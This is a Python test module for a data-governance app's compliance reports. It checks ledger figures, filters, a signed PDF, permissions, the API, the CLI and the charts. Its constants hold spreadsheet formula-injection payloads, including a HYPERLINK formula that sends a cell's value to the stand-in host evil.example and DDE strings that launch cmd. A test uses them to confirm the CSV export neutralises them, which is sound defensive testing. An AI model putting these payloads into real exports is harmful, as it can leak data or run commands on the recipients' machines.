"""Compliance reports: figures against the ledger, filters, CSV neutralisation, JSON shape, the signed
PDF, permissions, the API and the CLI. The history is made through the services, without jobs."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.utils import timezone
from rest_framework.test import APIClient

from audits.compliance import compliance_report_build, compliance_report_render, csv_cell
from audits.models import ComplianceReport
from audits.services import datasheet_verify, release_create, release_download, risk_accept
from core.errors import NotFoundError, PermissionDeniedError, ValidationError
from core.times import time_iso
from governance.models import AuditEvent, DataRequest, RequestState
from governance.services import (
    access_request_approve,
    access_request_reject,
    access_request_withdraw,
    budget_balance,
    budget_spend,
)
from tests.audits.failed_audit import audited
from tests.governance.factories import PurposeFactory, dataset_register_adult, request_file

pytestmark = pytest.mark.django_db

HOSTILE_JUSTIFICATION = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
HOSTILE_REJECTION = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_ACCEPTANCE = "+1+cmd|' /C calc'!A0 accepted: the marginal gap is small for this research use"
HOSTILE_WITHDRAWAL = "-2+3"


def _approved(cast, **extra) -> DataRequest:
    request = request_file(requester=cast.requester, **extra)
    access_request_approve(actor=cast.approver, request_id=request.pk)
    return access_request_approve(actor=cast.second_approver, request_id=request.pk)


@pytest.fixture
def history(cast, adult_schema):
    """Released, rejected and withdrawn requests on `adult`, one request on `adult-copy`."""
    PurposeFactory(name="research")
    PurposeFactory(name="marketing", approvals_required=1)
    dataset_register_adult(steward=cast.steward, schema=adult_schema)
    dataset_register_adult(steward=cast.steward, name="adult-copy", schema=adult_schema)

    released = _approved(cast, epsilon="1", justification=HOSTILE_JUSTIFICATION, recipient="lab")
    budget_spend(
        request=released,
        job=None,
        epsilon=Decimal("0.8"),
        delta=Decimal("0.000001"),
        mechanism="test",
        accountant={},
        actor=None,
    )
    audited(released)
    risk_accept(actor=cast.second_approver, request_id=released.pk, reasons={"tvd_1way": HOSTILE_ACCEPTANCE})
    release = release_create(actor=cast.approver, request_id=released.pk)
    release_download(actor=cast.requester, release_id=release.pk, kind="data")

    rejected = request_file(requester=cast.requester, purpose_name="marketing", epsilon="2")
    access_request_reject(actor=cast.second_approver, request_id=rejected.pk, reason=HOSTILE_REJECTION)
    withdrawn = _approved(cast, epsilon="0.5")
    access_request_withdraw(actor=cast.requester, request_id=withdrawn.pk, reason=HOSTILE_WITHDRAWAL)
    other = request_file(requester=cast.requester, dataset_name="adult-copy", epsilon="3")
    return {"released": released, "release": release, "rejected": rejected, "withdrawn": withdrawn, "other": other}


def _today():
    return timezone.now().date()


def _build(cast, **filters):
    return compliance_report_build(actor=cast.auditor, date_from=_today(), date_to=_today(), **filters)


def test_budget_figures_agree_with_the_ledger_and_the_balance(cast, history):
    from governance.models import Dataset

    report = _build(cast, dataset="adult")
    (budget,) = report["budgets"]
    balance = budget_balance(dataset=Dataset.objects.get(name="adult"))
    entries = budget["entries"]
    # registration spent ε 0.02 on the source version's DP row estimate, with no request
    assert [e["kind"] for e in entries] == ["estimate", "reserve", "spend", "release", "reserve", "release"]
    assert (entries[0]["request"], entries[0]["purpose"], entries[0]["version"]) == (None, None, 1)
    spends = sum(Decimal(e["epsilon"]) for e in entries if e["kind"] in ("spend", "estimate"))
    assert spends == Decimal(budget["period"]["epsilon_spent"]) == balance.epsilon_spent == Decimal("0.82")
    assert Decimal(budget["period"]["delta_spent"]) == balance.delta_spent
    expected = {
        "epsilon_spent": balance.epsilon_spent,
        "epsilon_reserved": balance.epsilon_reserved,
        "epsilon_remaining": balance.epsilon_remaining,
        "delta_spent": balance.delta_spent,
        "delta_reserved": balance.delta_reserved,
        "delta_remaining": balance.delta_remaining,
    }
    assert {key: Decimal(value) for key, value in entries[-1]["running"].items()} == expected
    assert budget["closing"] == entries[-1]["running"]
    # Exact decimal strings, never floats or exponents.
    assert entries[1]["running"] == {
        "epsilon_spent": "0.02",
        "epsilon_reserved": "1",
        "epsilon_remaining": "8.98",
        "delta_spent": "0",
        "delta_reserved": "0.000001",
        "delta_remaining": "0.000099",
    }
    assert entries[-1]["running"]["epsilon_remaining"] == "9.18"
    assert budget["opening"]["epsilon_remaining"] == "10"


def test_the_report_states_decisions_acceptances_releases_audits_and_the_chain(cast, history):
    report = _build(cast)
    assert set(report) == {
        "report",
        "requests",
        "decisions",
        "risk_acceptances",
        "budgets",
        "releases",
        "audits",
        "drift_audits",
        "audit_log",
    }
    assert report["report"]["period"] == {"from": _today().isoformat(), "to": _today().isoformat(), "timezone": "UTC"}
    by_state = report["requests"]["by_state"]
    assert set(by_state) == set(RequestState.values)
    assert (by_state["released"], by_state["rejected"], by_state["withdrawn"], by_state["submitted"]) == (1, 1, 1, 1)
    assert report["requests"]["total"] == 4
    rejection = [d for d in report["decisions"] if d["decision"] == "reject"]
    assert rejection == [
        {
            "request": history["rejected"].pk,
            "dataset": "adult",
            "approver": "second_approver",
            "decision": "reject",
            "at": rejection[0]["at"],
            "reason": HOSTILE_REJECTION,
        }
    ]
    assert len([d for d in report["decisions"] if d["decision"] == "approve"]) == 4
    (acceptance,) = report["risk_acceptances"]
    assert (acceptance["approver"], acceptance["reason"], acceptance["failed_checks"]) == (
        "second_approver",
        HOSTILE_ACCEPTANCE,
        ["tvd_1way"],
    )
    (release,) = report["releases"]
    assert (release["recipient"], release["download_count"], release["downloads"][0]["user"]) == ("lab", 1, "requester")
    assert release["expires_at"] == time_iso(history["release"].expires_at)
    assert release["despite_failed_checks"] is True
    assert [(e["check"], e["value"], e["threshold"], e["approver"], e["reason"]) for e in release["exceptions"]] == [
        ("tvd_1way", 0.31, 0.1, "second_approver", HOSTILE_ACCEPTANCE)
    ]
    (audit,) = report["audits"]
    assert audit["status"] == "failed" and [c["name"] for c in audit["failed_checks"]] == ["tvd_1way"]
    assert report["audit_log"]["ok"] is True and report["audit_log"]["events_checked"] == AuditEvent.objects.count()
    json.dumps(report)  # plain JSON values throughout


def test_dataset_and_purpose_filters_narrow_the_report(cast, history):
    copy = _build(cast, dataset="adult-copy")
    assert [r["id"] for r in copy["requests"]["items"]] == [history["other"].pk]
    assert [b["dataset"] for b in copy["budgets"]] == ["adult-copy"] and copy["releases"] == []
    marketing = _build(cast, purpose="marketing")
    assert [r["id"] for r in marketing["requests"]["items"]] == [history["rejected"].pk]
    assert [d["decision"] for d in marketing["decisions"]] == ["reject"]
    # The dataset's whole balance is shown; only the purpose's (here: no) entries are listed.
    (budget,) = marketing["budgets"]
    assert budget["entries"] == [] and budget["closing"]["epsilon_spent"] == "0.82"
    with pytest.raises(NotFoundError):
        _build(cast, dataset="nope")


def test_the_period_is_whole_utc_days_with_an_opening_balance(cast, history):
    tomorrow = _today() + timedelta(days=1)
    later = compliance_report_build(actor=cast.steward, date_from=tomorrow, date_to=tomorrow, dataset="adult")
    assert later["requests"]["total"] == 0 and later["decisions"] == [] and later["audits"] == []
    (budget,) = later["budgets"]
    assert budget["entries"] == [] and budget["opening"] == budget["closing"]
    assert budget["opening"]["epsilon_remaining"] == "9.18" and budget["period"]["epsilon_spent"] == "0"
    assert len(later["releases"]) == 1  # still live tomorrow
    earlier = compliance_report_build(
        actor=cast.steward,
        date_from=_today() - timedelta(days=3),
        date_to=_today() - timedelta(days=1),
        dataset="adult",
    )
    assert earlier["budgets"][0]["closing"]["epsilon_remaining"] == "10" and earlier["releases"] == []
    with pytest.raises(ValidationError):
        compliance_report_build(actor=cast.steward, date_from=tomorrow, date_to=_today())


def test_csv_neutralises_every_cell_a_spreadsheet_would_run(cast, history):
    rendered = compliance_report_render(actor=cast.auditor, date_from=_today(), date_to=_today(), format="csv")
    cells = [cell for row in csv.reader(io.StringIO(rendered.content.decode("utf-8"))) for cell in row]
    for hostile in (HOSTILE_JUSTIFICATION, HOSTILE_REJECTION, HOSTILE_ACCEPTANCE, HOSTILE_WITHDRAWAL):
        assert "'" + hostile in cells
        assert hostile not in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [csv_cell(v) for v in ("\tx", "\rx", "-1", "a=b", None, 3)] == ["'\tx", "'\rx", "'-1", "a=b", "", "3"]
    assert "budget ledger" in cells and "9.18" in cells
    assert "released despite failed checks" in cells  # the exceptions table: release, check, value, reason


def test_a_signed_pdf_report_verifies_and_fails_after_a_flipped_byte(cast, history):
    before = AuditEvent.objects.filter(action="report.compliance").count()
    rendered = compliance_report_render(actor=cast.steward, date_from=_today(), date_to=_today(), format="pdf")
    assert rendered.content.startswith(b"%PDF")
    record = ComplianceReport.objects.get(sha256=rendered.sha256)
    assert (record.format, record.created_by, record.signer != "") == ("pdf", cast.steward, True)
    report = datasheet_verify(pdf_bytes=rendered.content)
    assert report["ok"], report["problems"]
    assert report["compliance_report"] == record.pk
    flipped = bytearray(rendered.content)
    flipped[len(flipped) // 2] ^= 0x01
    assert not datasheet_verify(pdf_bytes=bytes(flipped))["ok"]
    event = AuditEvent.objects.filter(action="report.compliance").last()
    assert AuditEvent.objects.filter(action="report.compliance").count() == before + 1
    assert event.after["sha256"] == rendered.sha256 and event.after["format"] == "pdf"


@pytest.mark.parametrize("who", ["requester", "approver"])
def test_requesters_and_approvers_cannot_produce_reports(cast, history, who):
    with pytest.raises(PermissionDeniedError):
        compliance_report_render(actor=getattr(cast, who), date_from=_today(), date_to=_today(), format="json")
    assert not ComplianceReport.objects.exists()
    client = APIClient()
    client.force_authenticate(getattr(cast, who))
    response = client.get("/api/reports/compliance/", {"from": _today(), "to": _today()})
    assert response.status_code == 403 and response.json()["code"] == "permission_denied"


def test_the_api_answers_json_csv_and_pdf(cast, history):
    client = APIClient()
    client.force_authenticate(cast.auditor)
    today = _today().isoformat()
    body = client.get("/api/reports/compliance/", {"from": today, "to": today, "dataset": "adult"})
    assert body.status_code == 200 and body["Content-Type"] == "application/json"
    assert body.json()["budgets"][0]["closing"]["epsilon_remaining"] == "9.18"
    assert body["X-Synthgate-Report-SHA256"] == ComplianceReport.objects.get(format="json").sha256
    table = client.get("/api/reports/compliance/", {"from": today, "to": today, "format": "csv"})
    assert table.status_code == 200 and table["Content-Type"].startswith("text/csv")
    assert "attachment" in table["Content-Disposition"]
    pdf = client.get("/api/reports/compliance/", {"from": today, "to": today, "format": "pdf"})
    assert pdf.status_code == 200 and datasheet_verify(pdf_bytes=pdf.content)["ok"]
    bad = client.get("/api/reports/compliance/", {"from": "yesterday", "to": today})
    assert bad.status_code == 400 and bad.json()["code"] == "invalid"
    assert AuditEvent.objects.filter(action="report.compliance").count() == 3


def test_the_cli_writes_the_report(cast, history, tmp_path):
    today = _today().isoformat()
    out = io.StringIO()
    call_command(
        "report", "compliance", "--from", today, "--to", today, "--format", "json", "--as", "auditor", stdout=out
    )
    assert json.loads(out.getvalue())["requests"]["total"] == 4
    target = tmp_path / "report.pdf"
    out = io.StringIO()
    call_command(
        "report",
        "compliance",
        "--from",
        today,
        "--to",
        today,
        "--dataset",
        "adult",
        "--output",
        str(target),
        "--as",
        "steward",
        "--json",
        stdout=out,
    )
    written = json.loads(out.getvalue())
    assert written["path"] == str(target) and written["format"] == "pdf"
    assert datasheet_verify(pdf_bytes=target.read_bytes())["ok"]


def test_the_report_charts_spent_budget_requests_and_releases_with_exceptions(cast, history):
    import base64

    from audits.compliance.charts import compliance_chart_images

    charts = compliance_chart_images(_build(cast))

    spent, requests, releases = charts
    assert spent["title"] == "ε spent per dataset over the period"
    assert "adult: ε spent 0 at the start, 0.82 at the end" in spent["alt"]
    assert "adult-copy: ε spent 0 at the start, 0.02 at the end" in spent["alt"]  # its row estimate only
    assert requests["alt"].endswith("by state: submitted 1, released 1, rejected 1, withdrawn 1.")
    assert f"{_today():%Y-%m}: 0 clean, 1 despite failed checks" in releases["alt"]
    svg = base64.b64decode(releases["uri"].removeprefix("data:image/svg+xml;base64,")).decode()
    assert svg.count('class="bar despite-failed-checks"') == 1 and "<script" not in svg


def test_every_chart_text_is_drawn_at_the_size_asked(cast, history):
    """The PDF's charts draw every text at 9 px or more; the dashboard's at 11 (it never shows a
    chart narrower than drawn, so 11 px is what a phone reads)."""
    import base64
    from xml.etree import ElementTree

    from audits.compliance.charts import compliance_chart_images

    report = _build(cast)
    for size in (9, 11):
        for chart in compliance_chart_images(report, font_size=size):
            root = ElementTree.fromstring(base64.b64decode(chart["uri"].split(",", 1)[1]))
            texts = list(root.iter("{http://www.w3.org/2000/svg}text"))
            assert texts and min(float(text.get("font-size") or root.get("font-size")) for text in texts) >= size
    assert (
        min(
            float(text.get("font-size"))
            for chart in compliance_chart_images(report)
            for text in ElementTree.fromstring(base64.b64decode(chart["uri"].split(",", 1)[1])).iter(
                "{http://www.w3.org/2000/svg}text"
            )
        )
        == 9
    )


def test_a_period_without_activity_draws_no_chart(cast, history):
    from audits.compliance.charts import compliance_chart_images

    old = compliance_report_build(
        actor=cast.auditor, date_from=_today() - timedelta(days=60), date_to=_today() - timedelta(days=30)
    )

    assert compliance_chart_images(old) == []
